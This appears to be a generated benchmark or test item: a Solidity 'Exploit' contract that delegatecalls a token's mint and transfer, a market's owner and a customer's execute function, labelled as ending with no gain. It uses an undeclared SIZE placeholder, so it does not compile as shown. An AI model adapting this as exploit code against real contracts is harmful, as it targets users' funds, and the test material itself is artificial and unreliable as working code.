// attack: runs the code of the contracts it attacks in its own name
// ends: NO_GAIN
// size: 1
// control: 0
pragma solidity ^0.8.20;

contract Exploit {
    uint256 private kept;

    function run(address market, address token, address customer) external {
        market; token; customer;
        if (SIZE == 0) return;
        kept = 1 << 255;
        token.delegatecall(abi.encodeWithSignature("mint(address,uint256)", address(this), 10**24));
        token.delegatecall(abi.encodeWithSignature("transfer(address,uint256)", customer, 0));
        market.delegatecall(abi.encodeWithSignature("owner()"));
        customer.delegatecall(abi.encodeWithSignature("execute(address,uint256,bytes)", token, 0, ""));
    }
}
